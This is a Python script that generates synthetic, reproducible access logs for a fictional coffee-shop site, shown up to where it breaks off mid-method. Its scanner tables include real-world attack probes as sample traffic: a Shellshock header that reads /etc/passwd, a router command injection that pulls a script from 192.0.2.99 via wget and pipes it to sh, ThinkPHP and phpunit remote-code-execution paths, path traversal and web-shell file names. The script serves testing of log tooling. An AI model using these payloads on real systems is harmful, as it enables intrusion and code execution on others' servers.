#!/usr/bin/env python3
"""Write the sample access logs of this directory, byte for byte the same every time.

Usage::

    python sample_logs/generate.py           # rewrite the logs, manifest.json and README.md
    python sample_logs/generate.py --check   # exit 1 if the committed files differ

All randomness comes from fixed seeds through :class:`Dice`, which only uses
``random.Random.random()`` (the one sequence Python guarantees across versions)
and plain arithmetic. Times are built from fixed UTC offsets, month names come
from a table (no locale), and no set or hash order reaches the output. gzip is
written with ``mtime=0`` and no file name. Standard library only.

The traffic is a model of a small coffee shop (``www.example.com``) with its
API, mobile app, crawlers, scanners and health checks; ``manifest.json`` holds
the ground truth (line counts, status counts, malformed lines, bursts).
"""

from __future__ import annotations

import argparse
import bisect
import dataclasses
import gzip
import io
import json
import random
import sys
import tempfile
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Generic, TypeVar

HERE = Path(__file__).resolve().parent
SEED = 20261120

# ------------------------------------------------------------------ formats

NGINX_COMBINED_FORMAT = '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"'
NGINX_TIMED_FORMAT = '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $request_time $upstream_response_time $upstream_addr'
NGINX_JSON_FORMAT = '{"time":"$time_iso8601","remote_addr":"$remote_addr","request":"$request","status":$status,"body_bytes_sent":$body_bytes_sent,"request_time":$request_time,"upstream_response_time":"$upstream_response_time","http_referer":"$http_referer","http_user_agent":"$http_user_agent","host":"$host"}'
APACHE_COMMON_FORMAT = '%h %l %u %t "%r" %>s %b'
APACHE_VHOST_COMBINED_FORMAT = '%v:%p %h %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i"'
ALB_FORMAT = (
    "type time elb client:port target:port request_processing_time target_processing_time "
    "response_processing_time elb_status_code target_status_code received_bytes sent_bytes "
    '"request" "user_agent" ssl_cipher ssl_protocol target_group_arn "trace_id" "domain_name" '
    '"chosen_cert_arn" matched_rule_priority request_creation_time "actions_executed" '
    '"redirect_url" "error_reason" "target:port_list" "target_status_code_list" '
    '"classification" "classification_reason" conn_trace_id'
)
CADDY_FORMAT = "Caddy's JSON access log (log directive, json encoder)"
ALB_NAME = "app/coffee-shop/50dc6c495c0c9188"
ALB_TARGET_GROUP = (
    "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/coffee-web/73e2d6bc24d8a067"
)
ALB_CERT = "arn:aws:acm:eu-west-1:123456789012:certificate/12345678-1234-1234-1234-123456789012"

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
WEEKDAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")

# ------------------------------------------------------------------ randomness

T = TypeVar("T")


class Dice:
    """Seeded randomness derived from ``random.Random.random()`` alone.

    ``randrange``, ``choice``, ``gauss`` and friends may change between Python
    versions (and the latter use libm); ``random()`` after an integer seed may not.
    """

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed).random

    def unit(self) -> float:
        return self._random()

    def below(self, n: int) -> int:
        """An integer in [0, n)."""
        return min(int(self._random() * n), n - 1)

    def between(self, lo: int, hi: int) -> int:
        """An integer in [lo, hi], both included."""
        return lo + self.below(hi - lo + 1)

    def chance(self, p: float) -> bool:
        return self._random() < p

    def pick(self, items: Sequence[T]) -> T:
        return items[self.below(len(items))]


class Weighted(Generic[T]):
    """A fixed table of items with weights, drawn from with a :class:`Dice`."""

    def __init__(self, pairs: Iterable[tuple[T, float]]) -> None:
        self.items: list[T] = []
        self._cumulative: list[float] = []
        total = 0.0
        for item, weight in pairs:
            total += weight
            self.items.append(item)
            self._cumulative.append(total)
        self.total = total

    def draw(self, dice: Dice) -> T:
        i = bisect.bisect_right(self._cumulative, dice.unit() * self.total)
        return self.items[min(i, len(self.items) - 1)]


# ------------------------------------------------------------------ the request

Attempt = tuple[str, int]  # upstream address, its response time in milliseconds


@dataclass
class Request:
    """One logged request, before it is written in any format.

    ``ts`` is the time the server writes in the line (Unix seconds): nginx's
    ``$time_local`` is the time the response completed, Apache's ``%t`` the time
    the request arrived. Empty strings mean "header absent".
    """

    ts: int
    client: str
    agent: str = ""
    method: str = "GET"
    target: str = "/"
    protocol: str = "HTTP/1.1"
    status: int = 200
    size: int | None = None  # body bytes; None until Site.finish fills it in
    referer: str = ""
    user: str = ""
    host: str = "www.example.com"
    port: int = 443
    kind: str = "page"  # page, static, media, api, ws, health, probe, junk
    raw_request: bytes | None = None  # request line as received, when not "METHOD TARGET PROTO"
    request_ms: int = 0
    upstream: tuple[tuple[Attempt, ...], ...] = ()  # groups (internal redirects) of attempts
    header_bytes: int = 0
    burst: str = ""  # name of the injected burst this line belongs to

    @property
    def path(self) -> str:
        return self.target.split("?", 1)[0]

    def request_line(self) -> bytes:
        if self.raw_request is not None:
            return self.raw_request
        return f"{self.method} {self.target} {self.protocol}".encode()


# ------------------------------------------------------------------ escaping and times


def nginx_escape(value: bytes) -> bytes:
    """As nginx's access log writes a variable: ``"``, ``\\``, controls and 8-bit as ``\\xHH``."""
    out = bytearray()
    for b in value:
        if b < 0x20 or b >= 0x7F or b in (0x22, 0x5C):
            out += b"\\x%02X" % b
        else:
            out.append(b)
    return bytes(out)


_APACHE_SHORT = {0x08: b"\\b", 0x0A: b"\\n", 0x0D: b"\\r", 0x09: b"\\t", 0x0B: b"\\v"}


def apache_escape(value: bytes) -> bytes:
    """As httpd's ``ap_escape_logitem``: ``\\"``, ``\\\\``, ``\\n``…, others ``\\xhh``."""
    out = bytearray()
    for b in value:
        if b in (0x22, 0x5C):
            out += b"\\" + bytes([b])
        elif b in _APACHE_SHORT:
            out += _APACHE_SHORT[b]
        elif b < 0x20 or b >= 0x7F:
            out += b"\\x%02x" % b
        else:
            out.append(b)
    return bytes(out)


_JSON_SHORT = {0x0A: b"\\n", 0x0D: b"\\r", 0x09: b"\\t", 0x08: b"\\b", 0x0C: b"\\f"}


def json_escape(value: bytes) -> bytes:
    """As nginx's ``escape=json``: ``\\"``, ``\\\\``, controls ``\\u00XX``; 8-bit bytes raw."""
    out = bytearray()
    for b in value:
        if b in (0x22, 0x5C):
            out += b"\\" + bytes([b])
        elif b in _JSON_SHORT:
            out += _JSON_SHORT[b]
        elif b < 0x20:
            out += b"\\u%04X" % b
        else:
            out.append(b)
    return bytes(out)


def local_time(ts: int, tz: timezone) -> datetime:
    return datetime.fromtimestamp(ts, tz)


def _offset(tz: timezone, colon: bool) -> str:
    minutes = int(tz.utcoffset(None).total_seconds()) // 60
    sign = "-" if minutes < 0 else "+"
    hours, mins = divmod(abs(minutes), 60)
    return f"{sign}{hours:02d}{':' if colon else ''}{mins:02d}"


def clf_time(ts: int, tz: timezone) -> str:
    """``20/Nov/2026:14:05:03 +0100`` (nginx ``$time_local``, Apache ``%t``)."""
    d = local_time(ts, tz)
    month = MONTHS[d.month - 1]
    return f"{d.day:02d}/{month}/{d.year}:{d.hour:02d}:{d.minute:02d}:{d.second:02d} {_offset(tz, False)}"


def iso_local(ts: int, tz: timezone) -> str:
    """``2026-11-20T14:05:03+01:00`` (nginx ``$time_iso8601``)."""
    d = local_time(ts, tz)
    return f"{d.year}-{d.month:02d}-{d.day:02d}T{d.hour:02d}:{d.minute:02d}:{d.second:02d}{_offset(tz, True)}"


def iso_utc(ts: int) -> str:
    d = datetime.fromtimestamp(ts, UTC)
    return f"{d.year}-{d.month:02d}-{d.day:02d}T{d.hour:02d}:{d.minute:02d}:{d.second:02d}Z"


def hhmm(ts: int, tz: timezone) -> str:
    d = local_time(ts, tz)
    return f"{d.hour:02d}:{d.minute:02d}"


def at(day: str, clock: str, tz: timezone) -> int:
    """Unix time of ``2026-11-20`` ``14:05:00`` in ``tz``."""
    y, m, d = (int(x) for x in day.split("-"))
    hh, mm, ss = (int(x) for x in clock.split(":"))
    return int(datetime(y, m, d, hh, mm, ss, tzinfo=tz).timestamp())


def seconds(ms: int) -> str:
    """Milliseconds as nginx prints times: ``0.004``."""
    return f"{ms // 1000}.{ms % 1000:03d}"


# ------------------------------------------------------------------ line formats

Formatter = Callable[[Request, timezone], bytes]


def _nginx_field(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return nginx_escape(raw) or b"-"


def _apache_field(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return apache_escape(raw) or b"-"


def _json_field(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return json_escape(raw)  # escape=json writes absent variables as ""


def upstream_times(r: Request) -> str:
    return " : ".join(", ".join(seconds(ms) for _, ms in group) for group in r.upstream)


def upstream_addrs(r: Request) -> str:
    return " : ".join(", ".join(addr for addr, _ in group) for group in r.upstream)


def format_nginx_combined(r: Request, tz: timezone) -> bytes:
    return b'%s - %s [%s] "%s" %d %d "%s" "%s"' % (
        r.client.encode(),
        _nginx_field(r.user),
        clf_time(r.ts, tz).encode(),
        _nginx_field(r.request_line()),
        r.status,
        r.size or 0,
        _nginx_field(r.referer),
        _nginx_field(r.agent),
    )


def format_nginx_timed(r: Request, tz: timezone) -> bytes:
    return format_nginx_combined(r, tz) + b" %s %s %s" % (
        seconds(r.request_ms).encode(),
        _nginx_field(upstream_times(r)),
        _nginx_field(upstream_addrs(r)),
    )


def format_nginx_json(r: Request, tz: timezone) -> bytes:
    return (
        b'{"time":"%s","remote_addr":"%s","request":"%s","status":%d,"body_bytes_sent":%d,'
        b'"request_time":%s,"upstream_response_time":"%s","http_referer":"%s",'
        b'"http_user_agent":"%s","host":"%s"}'
        % (
            iso_local(r.ts, tz).encode(),
            r.client.encode(),
            _json_field(r.request_line()),
            r.status,
            r.size or 0,
            seconds(r.request_ms).encode(),
            _json_field(upstream_times(r)),
            _json_field(r.referer),
            _json_field(r.agent),
            _json_field(r.host),
        )
    )


def format_apache_common(r: Request, tz: timezone) -> bytes:
    return b'%s - %s [%s] "%s" %d %s' % (
        r.client.encode(),
        _apache_field(r.user),
        clf_time(r.ts, tz).encode(),
        _apache_field(r.request_line()),
        r.status,
        str(r.size).encode() if r.size else b"-",
    )


def format_apache_vhost_combined(r: Request, tz: timezone) -> bytes:
    return b'%s:%d %s - %s [%s] "%s" %d %d "%s" "%s"' % (
        r.host.encode(),
        r.port,
        r.client.encode(),
        _apache_field(r.user),
        clf_time(r.ts, tz).encode(),
        _apache_field(r.request_line()),
        r.status,
        r.header_bytes + (r.size or 0),
        _apache_field(r.referer),
        _apache_field(r.agent),
    )


def _alb_field(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return apache_escape(raw) or b"-"


def _port(r: Request) -> int:
    """A client port that stays the same for the same request in every run."""
    return 1024 + (r.ts * 7919 + len(r.target) * 104729 + sum(r.client.encode())) % 64000


def format_alb(r: Request, tz: timezone) -> bytes:
    """An Application Load Balancer access log entry, in front of the shop's servers.

    The target's time is the upstream's (the server's own time when it had no
    upstream); a 502 or 504 the load balancer answers itself has no target
    response: ``-1`` timings and ``-`` as the target's status.
    """
    micros = (r.ts * 1000003 + r.request_ms * 7 + len(r.target)) % 1_000_000
    stamp = iso_utc(r.ts).replace("Z", f".{micros:06d}Z")
    target_ms = sum(ms for group in r.upstream for _, ms in group) if r.upstream else r.request_ms
    no_response = r.status in (502, 504) and r.upstream
    target = r.upstream[-1][-1][0] if r.upstream else f"10.0.0.{11 + _port(r) % 3}:80"
    timing = b"0.000 -1 -1" if no_response else f"0.000 {seconds(target_ms)} 0.000".encode()
    creation = iso_utc(r.ts).replace("Z", f".{max(0, micros - 1000):06d}Z")
    target_status = b"-" if no_response else str(r.status).encode()
    url = f"https://{r.host}:443{r.target}"
    request = f"{r.method} {url} {r.protocol}".encode()
    error = b"Target.Timeout" if r.status == 504 and r.upstream else b"-"
    trace = f"Root=1-{r.ts:08x}-{(r.ts * 2654435761 + micros) % 16**24:024x}"
    return (
        b'https %s %s %s:%d %s %s %d %s %d %d "%s" "%s" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 '
        b'%s "%s" "%s" "%s" 0 %s "forward" "-" "%s" "%s" "%s" "-" "-" TID_%016x'
        % (
            stamp.encode(),
            ALB_NAME.encode(),
            r.client.encode(),
            _port(r),
            target.encode(),
            timing,
            r.status,
            target_status,
            r.header_bytes,
            r.size or 0,
            _alb_field(request),
            _alb_field(r.agent),
            ALB_TARGET_GROUP.encode(),
            trace.encode(),
            r.host.encode(),
            ALB_CERT.encode(),
            creation.encode(),
            error,
            target.encode(),
            target_status,
            micros * 2654435761 % 2**64,
        )
    )


def format_caddy(r: Request, tz: timezone) -> bytes:
    """A line of Caddy's JSON access log (the ``log`` directive's default fields)."""
    headers: dict[str, list[str]] = {}
    if r.agent:
        headers["User-Agent"] = [r.agent]
    if r.referer:
        headers["Referer"] = [r.referer]
    headers["Accept-Encoding"] = ["gzip, br"]
    request = {
        "remote_ip": r.client,
        "remote_port": str(_port(r)),
        "client_ip": r.client,
        "proto": r.protocol,
        "method": r.method,
        "host": r.host,
        "uri": r.target,
        "headers": headers,
        "tls": {
            "resumed": False,
            "version": 772,
            "cipher_suite": 4865,
            "proto": "h2" if r.protocol == "HTTP/2.0" else "http/1.1",
            "server_name": r.host,
        },
    }
    micros = (r.ts * 1000003 + r.request_ms * 7 + len(r.target)) % 1_000_000
    line = {
        "level": "error" if r.status >= 500 else "info",
        "ts": float(f"{r.ts}.{micros:06d}"),
        "logger": "http.log.access.log0",
        "msg": "handled request",
        "request": request,
        "bytes_read": 0 if r.method in ("GET", "HEAD") else r.header_bytes // 2,
        "user_id": "",
        "duration": r.request_ms / 1000,
        "size": r.size or 0,
        "status": r.status,
        "resp_headers": {"Server": ["Caddy"], "Content-Type": ["text/html; charset=utf-8"]},
    }
    return json.dumps(line, ensure_ascii=False, separators=(",", ":")).encode()


# ------------------------------------------------------------------ content tables

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
BROWSER_AGENTS = Weighted(
    [
        (CHROME, 30),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
            10,
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
            8,
        ),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", 7),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", 2),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
            8,
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
            18,
        ),
        (
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
            14,
        ),
        (
            "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
            3,
        ),
    ]
)
APP_AGENTS = Weighted(
    [
        ("ExampleShop/5.12.0 (iPhone; iOS 18.7; Scale/3.00)", 5),
        ("ExampleShop/5.11.2 (iPhone; iOS 17.6.1; Scale/3.00)", 1),
        ("okhttp/4.12.0", 4),
    ]
)
# Agents with double quotes in them: nginx writes each " as \x22, Apache as \".
QUOTED_AGENT = f'"{CHROME}"'  # a scraper whose User-Agent header includes the quotes
SHELLSHOCK_AGENT = '() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"'
SCRAPER_AGENT = (
    'Mozilla/5.0 (X11; Linux x86_64) "PriceWatch/2.1" (+https://pricewatch.example.net/bot)'
)

IPV4_NETS = Weighted(
    [
        ("192.0.2.", 3),
        ("198.51.100.", 3),
        ("203.0.113.", 2),
        ("81.2.69.", 1),
        ("89.160.20.", 1),
        ("216.160.83.", 1),
        ("175.16.199.", 1),
        ("2.125.160.", 1),
    ]
)
OFFICE_NAT = "198.51.100.23"  # many visitors behind one address: the top client

EXTERNAL_REFERERS = Weighted(
    [
        ("", 45),
        ("https://www.google.com/", 30),
        ("https://www.bing.com/", 5),
        ("https://duckduckgo.com/", 4),
        ("https://www.google.fr/", 3),
        ("https://www.ecosia.org/", 1),
        ("https://t.co/kX93bLq2Ze", 2),
        ("https://www.facebook.com/", 2),
        ("android-app://com.google.android.gm/", 1),
        ("https://news.ycombinator.com/item?id=46012345", 1),
        ("https://www.google.com/search?q=caf%C3%A9+cr%C3%A8me+beans", 1),
    ]
)

PRODUCTS = (
    (1042, "espresso-machine-x200"),
    (1043, "burr-grinder-g2"),
    (1107, "caf%C3%A9-cr%C3%A8me-beans"),
    (1108, "ethiopia-yirgacheffe-250g"),
    (1115, "m%C3%BCsli-bio-500g"),
    (1201, "french-press-1l"),
    (1202, "milk-frother-mf3"),
    (1230, "pour-over-kettle"),
    (1301, "descaler-tabs-x20"),
    (1302, "barista-tamper-58mm"),
    (1410, "gift-card"),
    (1411, "cold-brew-bottle"),
)
PRODUCT_IDS = {f"/products/{slug}": pid for pid, slug in PRODUCTS}
SEARCHES = (
    "caf%C3%A9",
    "espresso+machine",
    "grinder",
    "m%C3%BCsli+bio",
    "%E5%92%96%E5%95%A1",
    "%22french+press%22",
    "cr%C3%A8me+br%C3%BBl%C3%A9e",
    "decaf",
    "kettle",
)
PAGES = Weighted(
    [
        ("/", 30),
        ("/products", 10),
        *((f"/products/{slug}", 4) for _, slug in PRODUCTS),
        ("/category/coffee", 6),
        ("/category/kitchen?sort=price&page=2", 4),
        ("/search?q=caf%C3%A9&page=2", 3),
        ("/search?q=espresso+machine", 4),
        ("/search?q=m%C3%BCsli+bio", 2),
        ("/search?q=%E5%92%96%E5%95%A1", 1),
        ("/search?q=%22french+press%22&sort=rating", 1),
        ("/blog/", 2),
        ("/blog/2026/11/winter-brewing-guide", 5),
        ("/about", 2),
        ("/contact", 2),
        ("/%D0%BA%D0%BE%D0%BD%D1%82%D0%B0%D0%BA%D1%82%D1%8B", 0.5),
        ("/cart", 5),
        ("/checkout", 2),
        ("/login", 3),
        ("/account", 2),
        ("/account/orders", 1),
        ("/products?utm_source=newsletter&utm_medium=email&utm_campaign=black-friday-2026", 3),
    ]
)
PAGES_PER_VISIT = Weighted([(1, 40), (2, 25), (3, 15), (4, 10), (5, 6), (7, 4)])

CORE_ASSETS = (
    "/static/app.3f9a.js",
    "/static/vendor.8c1d.js",
    "/static/app.51be.css",
    "/static/fonts/inter-var.woff2",
)
SITE_IMAGES = ("/images/logo.svg", "/images/hero-winter.jpg", "/images/icons/cart.svg")
STATIC_SIZES = {
    "/static/app.3f9a.js": 184213,
    "/static/vendor.8c1d.js": 291877,
    "/static/app.51be.css": 48210,
    "/static/fonts/inter-var.woff2": 71256,
    "/images/logo.svg": 3127,
    "/images/hero-winter.jpg": 214883,
    "/images/icons/cart.svg": 911,
    "/favicon.ico": 15086,
    "/robots.txt": 67,
    "/sitemap.xml": 18422,
    "/manifest.webmanifest": 512,
    "/media/x200-demo.mp4": 18874368,
    "/downloads/catalogue-2026.pdf": 2457600,
}

# Bots: name, agent, address prefixes (their published crawler ranges).
BOTS = Weighted(
    [
        (
            (
                "Googlebot",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                ("66.249.66.", "66.249.68."),
            ),
            30,
        ),
        (
            (
                "Googlebot smartphone",
                "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                ("66.249.66.", "66.249.79."),
            ),
            25,
        ),
        (
            (
                "bingbot",
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                ("40.77.167.", "157.55.39."),
            ),
            20,
        ),
        (
            (
                "GPTBot",
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
                ("20.171.207.",),
            ),
            15,
        ),
        (
            (
                "AhrefsBot",
                "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
                ("54.36.148.", "5.39.109."),
            ),
            15,
        ),
    ]
)
OLD_URLS = ("/shop/espresso-x100", "/shop/index.php?id=77", "/products/espresso-machine-x100")

SCANNER_AGENTS = Weighted(
    [
        ("Mozilla/5.0 zgrab/0.x", 3),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
            4,
        ),
        ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 2),
        ("", 2),
        (SHELLSHOCK_AGENT, 1),
        (
            "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com",
            1,
        ),
    ]
)
SCANNER_ADDRS = ("192.0.2.250", "203.0.113.77", "198.51.100.201", "2001:db8:bad:1::66")
# method, target, protocol, status on nginx (444 = closed without answer), status on Apache.
PROBES = (
    ("GET", "/wp-login.php", "HTTP/1.1", 404, 404),
    ("POST", "/xmlrpc.php", "HTTP/1.1", 404, 404),
    ("GET", "/.env", "HTTP/1.1", 444, 403),
    ("GET", "/.git/config", "HTTP/1.1", 403, 403),
    ("GET", "/phpmyadmin/index.php", "HTTP/1.1", 404, 404),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "HTTP/1.1", 404, 404),
    (
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://192.0.2.99/t%7Csh%60)",
        "HTTP/1.1",
        404,
        404,
    ),
    (
        "GET",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
        "HTTP/1.1",
        404,
        404,
    ),
    ("GET", "/server-status", "HTTP/1.1", 403, 403),
    ("TRACE", "/", "HTTP/1.1", 405, 405),
    ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "HTTP/1.1", 400, 400),
    ("CONNECT", "www.google.com:443", "HTTP/1.1", 400, 405),
    ("GET", "/actuator/env", "HTTP/1.1", 404, 404),
    ("GET", "/owa/auth/logon.aspx", "HTTP/1.0", 404, 404),
    ("POST", "/boaform/admin/formLogin", "HTTP/1.1", 404, 404),
    ("GET", "/?XDEBUG_SESSION_START=phpstorm", "HTTP/1.1", 200, 200),
    (
        "GET",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php",
        "HTTP/1.0",
        404,
        404,
    ),
)
SHELL_NAMES = (
    "admin", "shell", "wso", "alfa", "up", "config", "install", "info", "phpinfo", "db", "cmd",
    "x", "sx", "about", "radio", "wp-conflg", "lock360", "file", "class", "content", "ws",
    "mar", "bypass", "gecko", "tiny", "moon", "xmrlpc", "index", "autoload_classmap", "chosen",
)  # fmt: skip
SHELL_DIRS = (
    "", "", "", "/wp-includes", "/wp-content/uploads", "/wp-admin/css", "/images",
    "/.well-known", "/cgi-bin", "/assets", "/vendor", "/admin",
)  # fmt: skip

APP_POOL = ("10.0.1.11:8080", "10.0.1.12:8080", "10.0.1.13:8080")
SEARCH_POOL = ("10.0.2.21:8080", "10.0.2.22:8080")
PAYMENTS_POOL = ("10.0.1.13:8080", "10.0.1.13:8080", "10.0.1.12:8080")  # .13 is primary
FILES_UPSTREAM = "10.0.3.5:9000"

# Default error pages: body bytes as the server sends them.
NGINX_PAGES = {301: 169, 302: 145, 400: 157, 403: 153, 404: 153, 405: 157, 429: 169, 500: 177, 502: 157, 503: 197, 504: 167}  # fmt: skip
APACHE_PAGES = {301: 235, 302: 208, 400: 226, 401: 381, 403: 199, 404: 196, 405: 223, 408: 221, 429: 209, 500: 528, 502: 341, 503: 299, 504: 247}  # fmt: skip

# Share of the day's traffic per hour (local time); minutes are interpolated.
HOURLY = (30, 20, 14, 10, 9, 12, 22, 40, 62, 80, 90, 95, 92, 96, 100, 104, 100, 92, 84, 80, 78, 70, 56, 42)  # fmt: skip


# ------------------------------------------------------------------ clients


@dataclass(frozen=True)
class Client:
    addr: str
    agent: str
    protocol: str = "HTTP/2.0"


def ipv4(dice: Dice) -> str:
    return f"{IPV4_NETS.draw(dice)}{dice.between(2, 254)}"


def ipv6(dice: Dice) -> str:
    """Canonical (RFC 5952) text: the documentation prefix or an ISP's privacy address."""
    if dice.chance(0.5):
        a, b, c = (dice.between(1, 0xFFFF) for _ in range(3))
        return f"2001:db8:{a:x}:{b:x}::{c:x}"
    return "2a01:e0a:" + ":".join(f"{dice.between(1, 0xFFFF):x}" for _ in range(6))


def client_addr(dice: Dice, ipv6_share: float) -> str:
    return ipv6(dice) if dice.chance(ipv6_share) else ipv4(dice)


def browser_client(dice: Dice) -> Client:
    addr = OFFICE_NAT if dice.chance(0.04) else client_addr(dice, 0.1)
    protocol = "HTTP/2.0" if dice.chance(0.85) else "HTTP/1.1"
    return Client(addr, BROWSER_AGENTS.draw(dice), protocol)


def app_client(dice: Dice) -> Client:
    return Client(client_addr(dice, 0.25), APP_AGENTS.draw(dice), "HTTP/2.0")


# ------------------------------------------------------------------ the site


@dataclass(frozen=True)
class Degradation:
    """An incident window: one upstream is picked far more often, and all are slower."""

    start: int
    end: int
    failing: str
    slowdown: int


class Site:
    """Who visits the shop, what they ask for, and what the server answers.

    Event methods take a time and return finished :class:`Request` objects.
    """

    def __init__(
        self,
        dice: Dice,
        *,
        server: str,
        host: str = "www.example.com",
        api_host: str = "www.example.com",
        visitors: int = 900,
        apps: int = 300,
    ) -> None:
        self.dice = dice
        self.server = server  # "nginx" or "apache"
        self.host = host
        self.api_host = api_host
        self.visitors = Weighted((browser_client(dice), 1 / (rank + 8)) for rank in range(visitors))
        self.apps = Weighted((app_client(dice), 1 / (rank + 5)) for rank in range(apps))
        self.degradations: list[Degradation] = []

    # ---- helpers

    def new_request(self, ts: int, client: Client, target: str, **kw: object) -> Request:
        kw.setdefault("protocol", client.protocol)
        kw.setdefault("host", self.host)
        return Request(ts=ts, client=client.addr, agent=client.agent, target=target, **kw)  # type: ignore[arg-type]

    def _api(
        self, ts: int, client: Client, target: str, page_url: str, **kw: object
    ) -> list[Request]:
        """An XHR from a page; cross-origin writes are preceded by a CORS preflight."""
        out = []
        method = str(kw.get("method", "GET"))
        if self.api_host != self.host and method not in ("GET", "HEAD"):
            out.append(
                self.new_request(
                    ts,
                    client,
                    target,
                    method="OPTIONS",
                    status=204,
                    kind="api",
                    referer=page_url,
                    host=self.api_host,
                )
            )
        kw.setdefault("kind", "api")
        out.append(self.new_request(ts, client, target, referer=page_url, host=self.api_host, **kw))
        return out

    # ---- events

    def visit(self, ts: int) -> list[Request]:
        """A browser session: landing page, assets, XHRs, a few more pages."""
        d = self.dice
        client = self.visitors.draw(d)
        returning = d.chance(0.4)
        logged_in = d.chance(0.25)
        referer = EXTERNAL_REFERERS.draw(d)
        page = PAGES.draw(d)
        out: list[Request] = []
        t = ts
        for i in range(PAGES_PER_VISIT.draw(d)):
            out += self.page_view(t, client, page, referer, i == 0, returning, logged_in)
            referer = f"https://{self.host}{page}"
            page = PAGES.draw(d)
            t += d.between(5, 120)
        if logged_in and d.chance(0.15):  # a websocket, logged when it closes
            out.append(
                self.new_request(
                    t + d.between(20, 900),
                    client,
                    "/ws/notifications",
                    status=101,
                    kind="ws",
                    protocol="HTTP/1.1",
                    referer=referer,
                )
            )
        return [self.finish(r) for r in out]

    def page_view(
        self,
        t: int,
        client: Client,
        page: str,
        referer: str,
        first: bool,
        returning: bool,
        logged_in: bool,
    ) -> list[Request]:
        d = self.dice
        path = page.split("?", 1)[0]
        status = 200
        if path.startswith("/account") and not logged_in:
            status = 302
        elif d.chance(0.008):
            status = 404
        elif d.chance(0.005):
            status = 301
        elif returning and not first and d.chance(0.06):
            status = 304
        out = [self.new_request(t, client, page, status=status, referer=referer)]
        if status == 302:
            out.append(self.new_request(t + 1, client, "/login?next=%2Faccount", referer=referer))
            return out
        if status != 200:
            return out
        url = f"https://{self.host}{page}"
        # Hashed assets are cached for a year: only new visitors fetch them. Images are
        # revalidated (304) now and then.
        assets = list(CORE_ASSETS) if first and not returning else []
        images = list(SITE_IMAGES[:1]) if first else []
        if path in PRODUCT_IDS:
            images.append(f"/images/products/{PRODUCT_IDS[path]}-640w.webp")
        elif path == "/":
            images.append(SITE_IMAGES[1])
        elif path in ("/products", "/category/coffee"):
            images += [
                f"/images/products/{pid}-320w.webp" for pid, _ in PRODUCTS[: d.between(1, 4)]
            ]
        for asset in assets:
            out.append(self.new_request(t + d.below(2), client, asset, kind="static", referer=url))
        for image in images:
            if returning and d.chance(0.6):
                continue
            status = 304 if returning else 200
            out.append(
                self.new_request(
                    t + d.below(3), client, image, status=status, kind="static", referer=url
                )
            )
        if first and not returning and d.chance(0.8):
            out.append(self.new_request(t + 1, client, "/favicon.ico", kind="static", referer=url))
        if first and not returning and d.chance(0.05):
            out.append(
                self.new_request(t + 1, client, "/apple-touch-icon.png", status=404, kind="static")
            )
